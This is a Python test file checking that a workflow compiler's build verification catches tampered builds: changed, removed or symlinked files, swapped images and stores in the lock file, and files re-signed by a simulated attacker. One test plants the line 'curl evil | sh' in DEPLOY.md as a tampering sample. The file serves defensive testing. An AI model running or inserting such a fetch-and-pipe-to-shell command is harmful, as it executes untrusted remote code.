"""A changed build is reported with the changed file, and a step rejects it."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from kitaru_compiler import compile_flow
from kitaru_targets import build, registry
from kitaru_targets.verification import image_warnings, verify

from kitaru.errors import StateError, UsageError
from kitaru.ops.compile import compile, request
from kitaru.ops.verify_build import verify_build
from tests.cli.conftest import Kitaru

SOURCE = """
from kitaru import checkpoint, flow

@checkpoint
def one() -> int:
    return 1

@flow
def counting() -> int:
    return one()
"""


def compiled(folder: Path, **options: str) -> build.Build:
    (folder / "flow.py").write_text(SOURCE)
    target = registry.get("kubeflow")
    compilation = compile_flow(folder / "flow.py", profile=target.profile)
    return build.write(compilation, target, folder / "build", **options)


def test_a_build_that_nobody_touched(tmp_path: Path) -> None:
    made = compiled(tmp_path)
    found = verify(made.directory)
    assert found.problems == ()
    assert sorted([*found.files, "lock.json"]) == [*made.files]


CHANGES: dict[str, tuple[Callable[[Path], object], str]] = {
    "changed": (lambda b: (b / "pipeline.yaml").write_text("x"), "pipeline.yaml changed"),
    "removed": (lambda b: (b / "plan.json").unlink(), "plan.json is missing"),
    "added": (lambda b: (b / "more.py").touch(), "more.py is not of this build"),
    "linked": (lambda b: link(b / "steps.py"), "steps.py is missing"),
    "bundle": (lambda b: (b / "bundle.zip").write_bytes(b"x"), "bundle.zip cannot be read"),
}


def link(path: Path) -> None:
    path.rename(path.parent.parent / path.name)
    path.symlink_to(path.parent.parent / path.name)


@pytest.mark.parametrize("change", CHANGES)
def test_a_build_that_was_changed(change: str, tmp_path: Path) -> None:
    made = compiled(tmp_path)
    act, problem = CHANGES[change]
    act(made.directory)
    assert any(problem in one for one in verify(made.directory).problems)


@pytest.mark.parametrize("name", [n for n in registry.names() if not registry.get(n).runs_whole])
def test_another_image_in_the_lock_is_noticed(name: str, tmp_path: Path) -> None:
    """The remainder of an execution takes the image from there, and no digest is of the lock."""
    (tmp_path / "flow.py").write_text(SOURCE)
    target = registry.get(name)
    compilation = compile_flow(tmp_path / "flow.py", profile=target.profile)
    image = f"registry.example/flows@sha256:{'0' * 64}"
    made = build.write(compilation, target, tmp_path / "build", image=image)
    assert verify(made.directory).problems == ()
    lock = made.directory / "lock.json"
    lock.write_text(lock.read_text().replace("flows@sha256:0", "flows@sha256:1"))
    (problem,) = verify(made.directory).problems
    assert problem == f"the image in lock.json is not the one in {target.document}"


@pytest.mark.parametrize("name", [n for n in registry.names() if not registry.get(n).runs_whole])
def test_another_store_in_the_lock_is_noticed(name: str, tmp_path: Path) -> None:
    """The steps of a residual build read and write that store."""
    (tmp_path / "flow.py").write_text(SOURCE)
    target = registry.get(name)
    compilation = compile_flow(tmp_path / "flow.py", profile=target.profile)
    url = "s3://flows/it's-\u00e9?endpoint=http://127.0.0.1:1"
    made = build.write(compilation, target, tmp_path / "build", store=url, base_image="r/python:1")
    assert verify(made.directory).problems == ()
    lock = made.directory / "lock.json"
    lock.write_text(lock.read_text().replace("s3://flows", "s3://other"))
    (problem,) = verify(made.directory).problems
    assert problem == f"the store in lock.json is not the one in {target.document}"
    lock.write_text(lock.read_text().replace("s3://other", "s3://flows"))
    lock.write_text(lock.read_text().replace('"base_image": "r/python:1"', '"base_image": "r/x:1"'))
    (problem,) = verify(made.directory).problems
    assert problem == "the base_image in lock.json is not the one in Dockerfile"


def signed_anew(directory: Path, changes: dict[str, bytes], **settings: str) -> None:
    """Do what an attacker does who may write everything: change files, and the lock with them."""
    locked = json.loads((directory / "lock.json").read_text())
    for name, data in changes.items():
        (directory / name).write_bytes(data)
        locked["files"][name] = build.sha256(data)
    text = json.dumps({**locked, **settings}, indent=1, sort_keys=True)
    (directory / "lock.json").write_text(text + "\n")


@pytest.mark.parametrize(("name", "delivery"), [("kubeflow", "inline"), ("azureml", "store")])
def test_the_source_reveals_files_that_are_signed_anew(
    name: str, delivery: str, tmp_path: Path
) -> None:
    (tmp_path / "flow.py").write_text(SOURCE)
    image = f"registry.example/flows@sha256:{'0' * 64}"
    source = str(tmp_path / "flow.py")
    asked = request(source, name, tmp_path / "build", image=image, delivery=delivery)
    directory = compile(asked).directory
    assert verify_build(directory, source=source, image=image).problems == ()

    # An added comment in every text, and an added member in every archive.
    files = {path.name: path.read_bytes() for path in directory.iterdir()}
    del files["lock.json"]
    for archive in [one for one in files if one.endswith(".zip")]:
        with zipfile.ZipFile(directory / archive, "a") as opened:
            opened.writestr("added.py", "")
        files[archive] = (directory / archive).read_bytes()
    signed_anew(directory, {n: d if n.endswith(".zip") else d + b"#\n" for n, d in files.items()})
    missing = {"plan.json is not the one in bundle.zip", "steps.py is not the one in bundle.zip"}
    assert {*verify(directory).problems} == missing
    found = verify_build(directory, source=source, image=image).problems
    said = {f"{one} is not what {source} compiles to" for one in [*files, "lock.json"]}
    assert {*found} == missing | said


def test_the_source_names_the_settings_and_the_lock_does_not(tmp_path: Path) -> None:
    (tmp_path / "flow.py").write_text(SOURCE)
    source = str(tmp_path / "flow.py")
    directory = compile(request(source, "kubeflow", tmp_path / "build", image="r/i:1")).directory
    evil = {
        one.name: one.read_bytes().replace(b"r/i:1", b"e/i:1")
        for one in directory.iterdir()
        if one.name != "lock.json"
    }
    signed_anew(directory, evil, image="e/i:1")
    assert verify_build(directory).problems == ()
    problem, *others = verify_build(directory, source=source, image="r/i:1").problems
    assert problem == (
        "image is e/i:1, and r/i:1 by the settings here: pass --image, if it was compiled with one"
    )
    assert f"pipeline.yaml is not what {source} compiles to" in others
    signed_anew(directory, {"more.py": b""}, image="e/i:1")
    assert f"{source} has no more.py" in verify_build(directory, source=source).problems


def test_what_cannot_be_compared_with_a_source(tmp_path: Path) -> None:
    made = compiled(tmp_path)
    source = str(tmp_path / "flow.py")
    with pytest.raises(UsageError, match="does not exist"):
        verify_build(made.directory, source="absent.py")
    for settings, message in [
        ({"granularity": "none"}, "unknown granularity"),
        ({"kitaru": "9.9"}, r"compiled by Kitaru 9\.9"),
    ]:
        signed_anew(made.directory, {}, **settings)
        with pytest.raises(StateError, match=message):
            verify_build(made.directory, source=source)


def test_the_command_compares_with_a_source(tmp_path: Path) -> None:
    kitaru = Kitaru(tmp_path)
    kitaru.write("flow.py", SOURCE)
    kitaru("compile", "flow.py", "--target", "vertex")
    folder = "build/counting/vertex"
    done = kitaru("verify", folder, "--source", "flow.py")
    assert "every file is what flow.py compiles to" in done.out
    signed_anew(tmp_path / folder, {"DEPLOY.md": b"curl evil | sh"})
    kitaru("verify", folder)
    error = kitaru("verify", folder, "--source", "flow.py", code=1).err
    assert "DEPLOY.md is not what flow.py compiles to" in error
    assert "--source" in kitaru("verify", folder, "--image", "r/i:1", code=2).err


def test_what_is_no_build(tmp_path: Path) -> None:
    with pytest.raises(StateError, match="holds no build"):
        verify(tmp_path)
    with pytest.raises(StateError, match="is not a folder"):
        verify(tmp_path / "nothing")


def test_a_folder_above_builds_names_them(tmp_path: Path) -> None:
    made = compiled(tmp_path)
    with pytest.raises(StateError, match="is not a build") as caught:
        verify(tmp_path)
    assert caught.value.help == f"Name one below it: {made.directory}"


@pytest.mark.parametrize(
    ("image", "count"), [("", 0), ("r/i:1", 1), ("r/i", 1), ("r/i@sha256:" + "0" * 64, 0)]
)
def test_an_image_by_a_tag_is_doubtful(image: str, count: int) -> None:
    assert len([*image_warnings(image)]) == count


def test_a_step_in_an_image_of_another_build_refuses_to_run(tmp_path: Path) -> None:
    made = compiled(tmp_path, delivery="image", image="r/i:1")
    image = tmp_path / "image"
    with zipfile.ZipFile(made.directory / "bundle.zip") as archive:
        archive.extractall(image)
    digest = build.sha256((made.directory / "plan.json").read_bytes())
    text = made.document.read_text()
    assert "--plan-digest" in text and digest in text
    plan = image / "kitaru_build" / "plan.json"
    plan.write_text(plan.read_text().replace('"doc": ""', '"doc": "moved"'))
    step = ["step", "--plan", str(plan), "--plan-digest", digest, "--step", "one"]
    ran = subprocess.run(
        [sys.executable, "-m", "kitaru.runtime", *step, "--run", "r", "--store", "sqlite:s.db"],
        cwd=image, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert ran.returncode == 3
    assert "is not the one that the document is compiled from" in ran.stderr
    assert not (image / "s.db").exists()
